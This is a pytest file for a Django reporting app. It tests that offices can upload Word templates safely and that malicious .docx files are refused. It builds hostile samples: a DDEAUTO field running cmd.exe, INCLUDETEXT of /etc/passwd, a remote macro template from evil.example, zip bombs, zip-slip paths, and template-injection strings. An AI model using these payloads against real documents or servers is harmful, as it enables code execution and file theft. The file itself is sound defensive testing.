"""An office puts in its own Word form: what is harmless and can be filled, and nothing that Word would run or fetch."""

import io
import re
import zipfile
from collections.abc import Callable
from html import unescape
from typing import Any

import docx
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.db import IntegrityError, transaction
from django.test import Client

from accounts.models import User
from reports.example_form import example_form
from reports.models import BriefForm
from tests.small_province import open_account
from units.lists import Role
from units.models import Unit
from workbooks.faults import UnsafeWorkbook
from workbooks.word_door import MAX_FORM, check_word_form

SignIn = Callable[[User], Client]
Units = dict[str, Unit]
PAGE = "/reports/brief/form/?unit={}"


def form(*paragraphs: str) -> bytes:
    paper, stream = docx.Document(), io.BytesIO()
    for text in paragraphs:
        paper.add_paragraph(text)
    paper.save(stream)
    return stream.getvalue()


def changed(parts: dict[str, bytes | None], data: bytes | None = None, **replaced: tuple[str, str]) -> bytes:
    """A form with `parts` put in (None: taken out), and `replaced` of its document's XML."""
    stream = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data or form("Một"))) as old,
        zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in old.namelist():
            content = old.read(name)
            for before, after in replaced.values():
                content = content.replace(before.encode(), after.encode())
            if name not in parts:
                new.writestr(name, content)
        for name, given in parts.items():
            if given is not None:
                new.writestr(name, given)
    return stream.getvalue()


def send(client: Client, code: str, data: bytes, name: str = "mau.docx") -> Any:
    return client.post(PAGE.format(code), {"file": SimpleUploadedFile(name, data)})


def words(answer: Any) -> str:
    return re.sub(r"\s+", " ", unescape(re.sub(r"<[^>]+>", " ", answer.content.decode()))).strip()


def texts(content: bytes) -> list[str]:
    paper = docx.Document(io.BytesIO(content))
    cells = [cell.text for table in paper.tables for row in table.rows for cell in row.cells]
    return [paragraph.text for paragraph in paper.paragraphs] + cells


def written(client: Client, code: str, query: str = "") -> list[str]:
    answer = client.get(f"/reports/brief.docx?unit={code}{query}")
    assert answer.status_code == 200
    return texts(answer.content)


def test_the_report_comes_in_the_offices_form_and_on_request_in_that_built_in(
    signed_in: SignIn, quantri: User, year: Units, tmp_path: Any
) -> None:
    client = signed_in(quantri)
    mine = form("Cơ quan {{ don_vi }}", "{{ da_ket_nap }}/{{ chi_tieu }}, {{ ty_le|phan_tram }}, ngày {{ ngay }}")
    assert send(client, "DLK", mine).status_code == 302
    assert written(client, "DLK") == ["Cơ quan Đảng bộ tỉnh Đắk Lắk", "6/11, 54,55%, ngày 10/10/2023"]
    assert "BÁO CÁO" in written(client, "DLK", "&form=builtin")
    assert client.get("/reports/brief/form.docx?unit=DLK").content == mine
    file = tmp_path / "x.docx"
    call_command("export_report", "brief", "--unit", "DLK", "--year", "2023", "--as-of", "2023-10-10", "-o", str(file))
    assert texts(file.read_bytes()) == written(client, "DLK")


def test_the_example_holds_every_field_and_the_whole_report(signed_in: SignIn, quantri: User, year: Units) -> None:
    client = signed_in(quantri)
    built_in = [line for line in written(client, "DLK", "&form=builtin") if len(line) > 40]
    got = client.get("/reports/brief/form/example.docx?unit=DLK")
    assert send(client, "DLK", got.content).status_code == 302
    mine = written(client, "DLK")
    assert "6/11 đảng viên, đạt 54,55%" in " ".join(built_in)
    assert [line for line in built_in if line not in mine] == []
    assert [mine[at + 2] for at, text in enumerate(mine) if text == "da_ket_nap"] == ["6"]
    assert not any("{{" in line or "{%" in line for line in mine)
    assert [line for line in mine if line.startswith("Đảng bộ huyện Krông Bông")]


def test_a_form_holds_for_the_units_below_that_have_none(signed_in: SignIn, quantri: User, year: Units) -> None:
    client = signed_in(quantri)
    send(client, "DLK", form("Tỉnh: {{ don_vi }}"))
    send(client, "KBO", form("Huyện: {{ don_vi }}"))
    assert written(client, "CPU") == ["Huyện: Đảng bộ xã Cư Pui"]
    assert written(client, "LAK") == ["Tỉnh: Đảng bộ huyện Lắk"]
    client.post(PAGE.format("KBO"), {"drop": "1"})
    assert written(client, "CPU") == ["Tỉnh: Đảng bộ xã Cư Pui"]
    history: Any = BriefForm.pgh_event_model.objects.order_by("pgh_id")  # type: ignore[attr-defined]
    assert [event.pgh_label for event in history] == ["insert", "insert", "deleted"]


@pytest.mark.parametrize(
    "name", ["<b>&</w:t>", "{{7*7}} {% for x in y %}", '=HYPERLINK("http://evil.example")', "\u0001x" * 99]
)
def test_a_hostile_name_is_text(signed_in: SignIn, quantri: User, year: Units, name: str) -> None:
    Unit.objects.filter(code="DLK").update(name=name)
    client = signed_in(quantri)
    assert send(client, "DLK", form("Tên: {{ don_vi }}", "{{ don_vi|hoa ~ '<w:br/>' }}")).status_code == 302
    first, second = written(client, "DLK")
    assert first == f"Tên: {name}".replace("\u0001", "")
    assert second.endswith("<w:br/>")


@pytest.mark.parametrize(
    ("paragraphs", "says"),
    [
        (["Đầu", "Kết nạp {{ ket_nap }} người"], "Không có trường “ket_nap”. Gần nhất: da_ket_nap"),
        (["Đầu", "Kết nạp {{ ket_nap }} người"], "Ở chỗ: “Kết nạp {{ ket_nap }} người”"),
        (["Kết nạp {{ da_ket_nap người"], "Thẻ viết dở, thiếu }} trong cùng đoạn: “{{ da_ket_nap người”"),
        (["{% if chi_tieu %}Có"], "endif"),
        (["{%p for d in truc_thuoc %}", "{{ d.ten_goi }}", "{%p endfor %}"], "“d.ten_goi”"),
        (["{{ ''.__class__.__mro__ }}"], "Ở chỗ: “{{ ''.__class__.__mro__ }}”"),
        (["{{ don_vi.__init__ }}"], "“.__init__”"),
        (["{{ range(1000000000) }}"], "Cách viết này không dùng được"),
        (["{{ 'a' * 1000000000 }}"], "Cách viết này không dùng được"),
        (["{% include '/etc/passwd' %}"], "Cách viết này không dùng được"),
        (["{% set a = 1 %}"], "Cách viết này không dùng được"),
        (["{{ cap_tren + 1 }}"], "Không tính hay so sánh được"),
        (["{%p if chi_tieu %} {{ x"], "Thẻ viết dở"),
    ],
)
def test_a_broken_form_is_refused_and_says_what_and_where(
    signed_in: SignIn, quantri: User, year: Units, paragraphs: list[str], says: str
) -> None:
    answer = send(signed_in(quantri), "DLK", form(*paragraphs))
    assert answer.status_code == 422
    assert says in words(answer)
    assert not BriefForm.objects.exists()


RELS = "word/_rels/document.xml.rels"
NO_RELS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'


def linked(kind: str, target: str, mode: str = "External") -> bytes:
    kind = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"
    one = f'<Relationship Id="rX" Type="{kind}" Target="{target}" TargetMode="{mode}"/>'
    return changed({RELS: NO_RELS.format(one).encode()})


def field(instruction: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in (instruction[:3], instruction[3:]))
    begun = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    return changed({}, words=("<w:r><w:t>Một</w:t></w:r>", f'{begun}{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r>'))


HOSTILE: dict[str, Callable[[], bytes]] = {
    "empty": lambda: b"",
    "text": lambda: b"Xin ch\xc3\xa0o",
    "old .doc": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
    "too large": lambda: b"PK\x03\x04" + b"\0" * MAX_FORM,
    "cut off": lambda: form("Một")[:2_000],
    "a zip of something": lambda: changed({"word/document.xml": None}),
    "macro": lambda: changed({"word/vbaProject.bin": b"x"}),
    "macro-enabled": lambda: changed(
        {}, kind=("wordprocessingml.document.main+xml", "wordprocessingml.document.macroEnabled.main+xml")
    ),
    "a template": lambda: changed({}, kind=("document.main+xml", "template.main+xml")),
    "embedded": lambda: changed({"word/embeddings/oleObject1.bin": b"x"}),
    "activeX": lambda: changed({"word/activeX/activeX1.xml": b"<x/>"}),
    "a program": lambda: changed({"word/media/x.exe": b"MZ"}),
    "remote template": lambda: linked("attachedTemplate", "http://evil.example/x.dotm"),
    "remote picture": lambda: linked("image", "http://evil.example/x.png"),
    "remote link": lambda: linked("hyperlink", "http://evil.example/"),
    "another file": lambda: linked("aFChunk", "/word/document.xml", "Internal"),
    "a part that is not there": lambda: linked("image", "media/none.png", "Internal"),
    "a part outside": lambda: changed({"../../x.xml": b"<x/>"}),
    "DDE": lambda: field(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "),
    "INCLUDETEXT": lambda: field('INCLUDETEXT "/etc/passwd"'),
    "a live object": lambda: changed({}, words=("<w:r><w:t>Một</w:t></w:r>", "<w:r><w:object/></w:r>")),
    "an entity": lambda: changed({}, dtd=("<w:document", '<!DOCTYPE x [<!ENTITY a "aaaa">]><w:document')),
    "a bomb": lambda: changed({"word/bomb.xml": b"<x>" + b" " * (40 * 2**20) + b"</x>"}),
    "a bomb of pictures": lambda: changed({"word/media/x.png": b"\0" * (40 * 2**20)}),
    "many parts": lambda: changed({f"word/x{n}.xml": b"<x/>" for n in range(400)}),
    "a part twice": lambda: changed({"word/x.xml": b"<x/>", "WORD/X.XML": b"<x/>"}),
    "no XML": lambda: changed({"word/header9.xml": b"<x>"}),
    "a tag in an attribute": lambda: changed({"word/x.xml": b'<x y="{{ don_vi }}"/>'}),
    "thousands of tags": lambda: form("{{ nam }}" * 2_500),
    "thousands of braces": lambda: form("{{" * 100_000),
}


@pytest.mark.parametrize("what", HOSTILE)
def test_what_word_would_run_or_fetch_is_refused_at_the_door(what: str) -> None:
    with pytest.raises(UnsafeWorkbook) as refused:
        check_word_form(HOSTILE[what]())
    assert str(refused.value)


def test_a_letterhead_with_page_numbers_passes_the_door() -> None:
    check_word_form(example_form())
    check_word_form(field(" PAGE \\* MERGEFORMAT "))


def test_a_refused_file_is_answered_at_its_field(signed_in: SignIn, quantri: User, year: Units) -> None:
    client = signed_in(quantri)
    for data in (HOSTILE["macro"](), HOSTILE["remote template"](), b"", b"PK"):
        answer = send(client, "DLK", data)
        assert answer.status_code == 422
        assert "Chưa xong" in words(answer)
    assert client.post(PAGE.format("DLK"), {}).status_code == 422
    assert not BriefForm.objects.exists()


def test_a_form_that_no_longer_fits_is_said_and_the_one_built_in_stays(
    signed_in: SignIn, an: User, quantri: User, year: Units
) -> None:
    BriefForm.objects.create(
        unit=year["DLK"], file_name="cu.docx", content=form("{{ truong_cu }}"), digest="0" * 64, uploaded_by=quantri
    )
    client = signed_in(an)
    answer = client.get("/reports/brief.docx?unit=KBO", follow=True)
    assert "Không có trường “truong_cu”" in words(answer)
    assert "BÁO CÁO" in written(client, "KBO", "&form=builtin")


def test_the_database_takes_no_larger_file(quantri: User, year: Units) -> None:
    with pytest.raises(IntegrityError), transaction.atomic():
        BriefForm.objects.create(
            unit=year["DLK"], file_name="x", content=b"\0" * (MAX_FORM + 1), digest="", uploaded_by=quantri
        )


def test_only_who_administers_puts_in_a_form_and_within_his_reach(signed_in: SignIn, an: User, year: Units) -> None:
    officer = signed_in(an)
    for address in (PAGE, "/reports/brief/form.docx?unit={}", "/reports/brief/form/example.docx?unit={}"):
        assert officer.get(address.format("DLK")).status_code == 404
    assert send(officer, "DLK", form("Một")).status_code == 404
    admin = signed_in(open_account("quantri-lak", year["LAK"], Role.ADMIN))
    assert send(admin, "LAK", form("Một")).status_code == 302
    for code in ("DLK", "KBO", "NONE"):
        assert send(admin, code, form("Một")).status_code == 404
    assert list(BriefForm.objects.values_list("unit__code", flat=True)) == ["LAK"]
